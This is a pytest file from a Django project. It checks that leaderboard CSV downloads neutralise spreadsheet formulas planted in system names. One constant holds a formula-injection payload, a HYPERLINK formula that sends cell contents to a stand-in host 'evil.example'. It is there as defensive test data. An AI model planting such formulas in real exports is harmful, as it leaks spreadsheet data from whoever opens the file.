"""Every CSV the owner can download neutralises spreadsheet formulas planted in imported names."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from ratings.services.leaderboard import leaderboard_recompute
from ratings.tests.simulate import make_simulated_study
from tasks.models import System

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("url_name", ["api-leaderboard", "api-leaderboard-matrices", "api-leaderboard-elo"])
def test_leaderboard_csv_cells_never_start_a_formula(client, url_name):
    sim = make_simulated_study(n_prompts=4, votes_per_comparison=3, n_raters=4)
    System.objects.filter(study=sim.study, name="alpha").update(name=EVIL)
    leaderboard_recompute(study_id=sim.study.id)
    client.force_login(sim.study.owner)
    response = client.get(reverse(url_name, args=[sim.study.slug]), {"format": "csv"})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert any(EVIL in cell for cell in cells), "the system name should be in the CSV"
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
